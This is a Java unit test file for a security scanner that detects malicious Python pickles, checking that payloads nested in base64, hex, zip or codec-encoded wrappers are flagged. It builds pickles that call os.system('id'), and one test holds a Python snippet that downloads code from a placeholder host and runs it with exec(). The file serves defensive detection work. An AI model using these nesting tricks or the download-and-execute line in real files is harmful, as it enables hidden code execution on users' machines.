package dev.weir.scanner.core.pickle;

import static dev.weir.scanner.core.Scans.rules;
import static dev.weir.scanner.core.Scans.scan;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.scanner.core.ArtifactReport;
import dev.weir.scanner.core.Verdict;
import dev.weir.scanner.core.zip.Zips;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Pickles and programs that a pickle holds in a value. */
class NestedPickleTest {

    @Test
    void aPickleInsideATextIsFollowed() {
        byte[] inner = Pickles.osSystem(4);
        for (String text : List.of(
                Base64.getEncoder().encodeToString(inner), HexFormat.of().formatHex(inner))) {
            byte[] outer = Pickles.protocol(2).ascii("V" + text + "\n").stop();

            assertThat(rules(scan(outer))).as(text).containsExactly("pickle.nested-denied-global");
            assertThat(scan(outer).verdict()).isEqualTo(Verdict.MALICIOUS);
        }
    }

    @Test
    void aPickleInsideAPayloadIsFollowed() {
        byte[] pickle = Pickles.protocol(3).payload(Pickles.osSystem(4)).stop();

        ArtifactReport report = scan(pickle);

        assertThat(rules(report)).containsExactly("pickle.nested-denied-global");
        assertThat(report.findings().getFirst().summary()).contains("os.system('id')");
        assertThat(report.verdict()).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void aPickleInATorchFileInsideAPayloadIsFollowed() {
        byte[] file = Zips.stored(Map.of("archive/data.pkl", Pickles.osSystem(2)));
        byte[] far = Pickles.protocol(3)
                .raw('(')
                .payload(file)
                .payload(new byte[100_000])
                .raw('t')
                .stop();
        byte[] encoded = Pickles.protocol(2)
                .text(Base64.getEncoder().encodeToString(file))
                .stop();

        assertThat(rules(scan(far))).containsExactly("pickle.nested-denied-global");
        assertThat(rules(scan(encoded))).containsExactly("pickle.nested-denied-global");
    }

    @Test
    void aPickleInBytesThatAreWrittenAsTextIsFollowed() {
        String inner = new String(Pickles.osSystem(2), ISO_8859_1);
        for (String tail : List.of("", "x".repeat(600))) {
            byte[] outer = Pickles.protocol(2)
                    .global("_codecs", "encode")
                    .text(inner + tail)
                    .text("latin1")
                    .raw(0x86, 'R')
                    .stop();

            assertThat(rules(scan(outer))).containsExactly("pickle.nested-denied-global");
        }
    }

    @Test
    void aLongLineOfProtocolZeroIsFollowed() {
        byte[] inner = Pickles.protocol(2)
                .text("x".repeat(600))
                .raw('0')
                .bytes(Pickles.osSystem(2))
                .toBytes();
        String line = Base64.getEncoder().encodeToString(inner);

        assertThat(rules(scan(Pickles.protocol(0).ascii("V" + line + "\n").stop())))
                .containsExactly("pickle.nested-denied-global");
        assertThat(rules(scan(Pickles.protocol(0).ascii("S'" + line + "'\n").stop())))
                .containsExactly("pickle.nested-denied-global");
    }

    @Test
    void anEncodedProgramThatRunsWhatItDownloadsIsMalicious() {
        String code = "import urllib.request\nr = urllib.request.urlopen('http://acme.example')\nexec(r.read())\n";
        byte[] pickle = Pickles.protocol(2)
                .text(Base64.getEncoder().encodeToString(code.getBytes(ISO_8859_1)))
                .stop();

        assertThat(scan(pickle).verdict()).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void unpicklingAPayloadIsDenied() {
        byte[] pickle = Pickles.protocol(3)
                .global("pickle", "loads")
                .payload(Pickles.osSystem(4))
                .raw(0x85, 'R')
                .stop();

        assertThat(scan(pickle).verdict()).isEqualTo(Verdict.MALICIOUS);
    }
}
